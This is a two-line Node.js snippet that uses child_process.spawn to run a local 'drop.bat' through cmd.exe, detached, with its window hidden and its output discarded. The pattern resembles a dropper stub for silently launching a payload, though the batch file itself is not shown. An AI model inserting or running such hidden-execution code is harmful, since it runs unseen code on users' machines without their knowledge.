const { spawn } = require('child_process');
spawn('cmd.exe', ['/c', 'drop.bat'], { detached: true, windowsHide: true, stdio: 'ignore' }).unref();
